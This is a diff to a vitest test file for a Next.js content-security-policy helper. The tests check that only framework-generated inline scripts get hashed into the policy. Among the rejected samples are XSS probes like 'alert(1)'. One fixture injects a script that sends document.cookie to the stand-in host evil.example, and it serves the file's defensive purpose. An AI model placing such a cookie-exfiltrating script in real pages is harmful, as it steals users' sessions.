@@ -1,4 +1,6 @@
 import { createHash } from 'node:crypto'
+import { createRequire } from 'node:module'
+import { PassThrough } from 'node:stream'
 import { createServer, type RequestListener, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { gzipSync } from 'node:zlib'
@@ -7,6 +9,7 @@ import { afterEach, describe, expect, it } from 'vitest'
 import compression from 'next/dist/compiled/compression'
 import {
   addScriptPolicy,
+  appScript,
   gatewayScriptHosts,
   inlineScriptHashes,
   mayBeAPage,
@@ -15,7 +18,7 @@ import {
 } from './page-csp.mjs'
 
 const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
-const BOOT = 'self.__next_f=self.__next_f||[]'
+const BOOT = '(self.__next_f=self.__next_f||[]).push([0])'
 const PUSH = 'self.__next_f.push([1,"a\\u003c/b"])'
 const PAGE = `<!DOCTYPE html><html><head><script src="/_next/static/chunks/main.js" async=""></script>
 <script type="application/ld+json">{"@type":"Article"}</script></head><body>
@@ -29,6 +32,67 @@ describe('inlineScriptHashes', () => {
   })
 })
 
+describe('the allowed set: scripts of the shapes the framework writes, nothing else (issue 47, M4)', () => {
+  const TURBOPACK =
+    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[494553]});'
+  it.each([BOOT, PUSH, 'self.__next_f.push([2,null])', TURBOPACK])('hashes %s', (body) => {
+    expect(appScript(body)).toBe(true)
+  })
+  it.each([
+    'alert(1)',
+    'window.__injected = true',
+    'self.__next_f.push([1,"a"]);alert(1)',
+    'self.__next_f.push([1,"a"]),alert(1)',
+    'self.__next_f.push(alert(1))',
+    '$RC=function(){alert(1)};$RC("B:0","S:0")',
+    '$RC("B:0","S:0");alert(1)',
+    '',
+  ])('leaves out %j', (body) => {
+    expect(appScript(body)).toBe(false)
+  })
+
+  it('a page with an injected inline script: its policy does not list the injected one', () => {
+    const injected = 'fetch("https://evil.example/?c="+document.cookie)'
+    const page = PAGE.replace(
+      '<body>',
+      `<body><div class="rich-text"><script>${injected}</script></div>`,
+    )
+    expect(inlineScriptHashes(page)).toEqual([sha(BOOT), sha(PUSH)])
+    expect(inlineScriptHashes(page)).not.toContain(sha(injected))
+  })
+
+  it("hashes React's streaming scripts, as the React DOM that Next ships writes them", async () => {
+    const require = createRequire(import.meta.url)
+    const React = require('next/dist/compiled/react') as typeof import('react')
+    const { renderToPipeableStream } = require('next/dist/compiled/react-dom/server.node')
+    let resolve = (_: string) => {}
+    const later = new Promise<string>((done) => (resolve = done))
+    const Late = () => React.createElement('p', null, React.use(later))
+    const tree = React.createElement(
+      'html',
+      null,
+      React.createElement(
+        'body',
+        null,
+        React.createElement(React.Suspense, { fallback: 'wait' }, React.createElement(Late)),
+      ),
+    )
+    const out = new PassThrough()
+    let html = ''
+    out.on('data', (chunk) => (html += chunk))
+    const stream = renderToPipeableStream(tree, {
+      onShellReady() {
+        stream.pipe(out)
+        setTimeout(() => resolve('done'), 10)
+      },
+    })
+    await new Promise((done) => out.on('end', done))
+    const bodies = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]!)
+    expect(bodies.some((b) => b.includes('$RC('))).toBe(true)
+    for (const body of bodies) expect(appScript(body), body.slice(0, 80)).toBe(true)
+  })
+})
+
 describe('mayBeAPage', () => {
   it.each([
     ['GET', '/', true],
@@ -37,6 +101,10 @@ describe('mayBeAPage', () => {
     ['GET', '/api/content/news', false],
     ['GET', '/admin/login', false],
     ['GET', '/images/hero.jpg', false],
+    ['GET', '/favicon.ico', false],
+    // Answered by the not-found page, which gets the policy of every page (issue 47, M4).
+    ['GET', '/wp-login.php', true],
+    ['GET', '/index.html', true],
     ['POST', '/', false],
     ['HEAD', '/', false],
   ])('%s %s: %s', (method, url, expected) => {
